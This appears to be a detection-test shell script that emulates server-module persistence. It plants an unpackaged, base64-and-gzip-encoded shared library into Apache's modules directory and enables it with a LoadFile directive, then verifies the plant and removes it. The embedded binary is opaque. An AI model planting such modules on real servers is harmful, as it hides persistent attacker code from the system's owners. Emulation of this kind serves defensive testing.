#!/bin/sh
# T1505 (loud): Apache loads a library of no package
M=/var/tmp/luytre-foothold N=35-apache-loadfile
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
so() { mkdir -p "${1%/*}"; echo H4sIAAAAAAACA71Vu08UQRif3eUAQTnkEY+YyJn4NuwdxEuIr5zi4wpMzlIL12F3YS/s47I7GK4wJhoKCgobKytLGxMLQygMCYW9haGkMcGO/+Ccufvmbma4EwvjJDu/nd/3mNf3zffq/vwDXdMQbwa6jdojhIqAuymRm0U9tE+joYauIDrUdg0Z0XATmF2vKB+V0dNk5HY62O2B3d6ojEVNxn4wf/yTOL3o79tw6zwQGhD8HBN0NFgPaz1wDmyOPrD7U5ul3wjVXAfFE8DPA/8O+F5hLsbnDfleMPDvFf0Y+A+K/wzwLxX9GvCfjPa++b4YX1X8XAT+jeIH+QRVcWAlgYVXiOeGpGJj4nIucYkdu05LxbaJFSwFLZuo6oZUKUkqUcg5248S9xDpMfckWqYTWvFKCGBVwgoR40hT7mJ2vInd7qheGBmh/fkx2qcni/SPjT0m+rVXr9c32YV/vUOPZesL9V3auOVTIp0qrX8rrW2vTm6yCUsbBXb+W30N0fT3TTZTaf1HOrVT3v/IvExQ4ulOA6Av77/tJlhlgisNwfT2Tu4FjnMkqOb8lRqJ3anFKCJe5Du5JEJ+hB3XGRD2M4HkvDqN5LzoAcxCvvBcLuvyvT4HOfe9BjgoxJUYN9nxdr6K8jHUPn/WTgEe6DK/q8vrzCj5l0H/p/F3RW0XYKMP5+auZy/dcxcqOMxOz5jXzPxU4TL8IWQmXkJigheQ6eHEQ6ZTC5Na0EQSIzN2fcwG8Fel6WMSd5X2ceRggpHpetZijAMXmSy2LRzHuNawx0HFRuZSRJpWdhQENN3+0b4HIRZ0JT443kTy/arxdBJ86Er8cDwQ4kXrcM8TINOVeOS4pqxXU8ZnYS26Ek8cM13Wz/mrYH9Xic+DDvbHO9jnhRrXqCeGjNku9YZjQbHn7z7H10fs/wZwMzD+bMh4ros9xzmlvh2q40rrV8aP6DckvAet+m501u9X8Ans3VDykNd9Xt8NxY6f34Ly9vP3KJvqfP7q/Mtgn1f0imB/5ojz07rUl2dgT464v9/Mwxb4mAkAAA== | base64 -d | gzip -d >"$1"; chmod 644 "$1"; }
loaded() { [ -s "$M/so" ] && mv "$M/so" "$M/$N"; }
plant() {
  so /usr/lib/apache2/modules/mod_unique.so
  w /etc/apache2/mods-enabled/unique.load <<'E'
LoadFile /usr/lib/apache2/modules/mod_unique.so
E
}
prove() {
  rm -f "$M/$N" "$M/so"
  systemctl reset-failed apache2 2>/dev/null; systemctl restart apache2; sleep 1
  d=$(ls -d /var/tmp/systemd-private-*apache2*/tmp); mkdir -p $d/luytre-foothold; chmod 1777 $d/luytre-foothold
  systemctl reload apache2; sleep 1; mv $d/luytre-foothold/so $M/so
  loaded; seen
}
remove() {
  rm -f /usr/lib/apache2/modules/mod_unique.so /etc/apache2/mods-enabled/unique.load; systemctl reset-failed apache2 2>/dev/null; systemctl restart apache2
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
